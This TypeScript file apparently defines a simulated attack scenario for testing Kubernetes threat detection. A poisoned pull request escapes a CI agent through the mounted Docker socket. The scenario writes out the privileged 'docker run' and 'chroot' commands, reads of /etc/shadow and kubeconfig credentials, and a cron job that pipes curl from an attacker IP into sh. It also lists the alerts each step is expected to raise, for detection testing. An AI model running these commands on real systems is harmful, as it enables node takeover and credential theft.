import { IP } from '../cluster/constants';
import { BUILDPOOL_NODE, buildAgentWorkload } from '../cluster/inventory';
import type { Storyline } from '../scenario/storyline';

const AGENT = { namespace: 'ci', workload: 'build-agent' };
const ROGUE = 'k8s_POD_kube-proxy-helper';
const node = BUILDPOOL_NODE.name;

/** B2: a poisoned pull request runs on the self-hosted agent, which has the node's Docker socket mounted. */
export const dockerSocketEscape: Storyline = {
  id: 'docker-sock-escape',
  title: 'Container runtime socket escape from a CI agent',
  summary:
    "A pull request's build script uses the Docker socket mounted into the CI agent to start a privileged container behind Kubernetes' back and take over the node.",
  attackHourUtc: 13,
  setup: { extraNodes: [BUILDPOOL_NODE], extraWorkloads: [buildAgentWorkload('buildpool')] },
  actors: {},
  steps: [
    {
      at: 0,
      description: 'The PR validation job starts its script on the agent',
      actions: [
        { type: 'log', pod: AGENT, message: '{time}: Running job: PR-482 validate' },
        {
          type: 'process',
          pod: AGENT,
          exe: '/usr/bin/bash',
          cmdline: '/usr/bin/bash --noprofile --norc /azp/_work/_temp/7c1e0d2a.sh',
          parentExe: '/azp/bin/Agent.Worker',
          user: 'root',
        },
      ],
    },
    {
      at: 5,
      description: 'Talks to the Docker socket',
      actions: [
        {
          type: 'process',
          pod: AGENT,
          exe: '/usr/bin/docker',
          cmdline: 'docker version; docker ps',
          parentExe: '/usr/bin/bash',
          user: 'root',
        },
      ],
    },
    {
      at: 20,
      description:
        'Starts a privileged container with the host filesystem, named like a kubelet-managed container',
      actions: [
        {
          type: 'log',
          pod: AGENT,
          message: `+ docker run -d --privileged --pid=host --net=host -v /:/host --name ${ROGUE} alpine:3.19 sleep infinity`,
        },
        { type: 'log', pod: AGENT, message: `Unable to find image 'alpine:3.19' locally` },
        {
          type: 'process',
          pod: AGENT,
          exe: '/usr/bin/docker',
          cmdline: `docker run -d --privileged --pid=host --net=host -v /:/host --name ${ROGUE} alpine:3.19 sleep infinity`,
          parentExe: '/usr/bin/bash',
          user: 'root',
        },
      ],
    },
    {
      at: 50,
      description: "Reads the node's secrets from inside the rogue container",
      actions: [
        {
          type: 'process',
          pod: AGENT,
          exe: '/usr/bin/docker',
          cmdline: `docker exec ${ROGUE} chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'`,
          parentExe: '/usr/bin/bash',
          user: 'root',
        },
        {
          type: 'process',
          node,
          exe: '/usr/sbin/chroot',
          cmdline:
            "chroot /host /bin/bash -c 'id; head -3 /etc/shadow; cat /var/lib/kubelet/kubeconfig; cat /etc/kubernetes/azure.json'",
          parentExe: '/usr/bin/containerd-shim-runc-v2',
          user: 'root',
          inHostNamespaces: true,
          files: [
            { path: '/host/etc/shadow', operation: 'read' },
            { path: '/host/var/lib/kubelet/kubeconfig', operation: 'read' },
            { path: '/host/etc/kubernetes/azure.json', operation: 'read' },
          ],
        },
      ],
    },
    {
      at: 90,
      description: 'Drops a cron job on the node that fetches and runs a script every five minutes',
      actions: [
        {
          type: 'process',
          node,
          exe: '/usr/sbin/chroot',
          cmdline: `chroot /host bash -c 'echo "*/5 * * * * root curl -fsSL http://${IP.attacker}/k.sh | sh" > /etc/cron.d/kube-sync'`,
          parentExe: '/usr/bin/containerd-shim-runc-v2',
          user: 'root',
          inHostNamespaces: true,
          files: [{ path: '/host/etc/cron.d/kube-sync', operation: 'write' }],
        },
      ],
    },
    {
      at: 105,
      description: 'The job ends green',
      actions: [{ type: 'log', pod: AGENT, message: '{time}: ##[section]Finishing: validate' }],
    },
    {
      at: 5 * 3600,
      description: "The node's cron runs the attacker's script",
      actions: [
        {
          type: 'process',
          node,
          exe: '/bin/sh',
          cmdline: `/bin/sh -c curl -fsSL http://${IP.attacker}/k.sh | sh`,
          parentExe: '/usr/sbin/cron',
          user: 'root',
          connections: [{ ip: IP.attacker, port: 80 }],
        },
      ],
    },
  ],
  expectedAlerts: [
    { alertType: 'K8S.NODE_PrivilegedContainerArtifacts', step: 2 },
    { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 3 },
    { alertType: 'K8S.NODE_SuspectPasswordFileAccess', step: 3 },
    { alertType: 'K8S.NODE_KubeConfigAccess', step: 3 },
    { alertType: 'K8S.NODE_DownloadAndRunCombo', step: 6 },
  ],
};
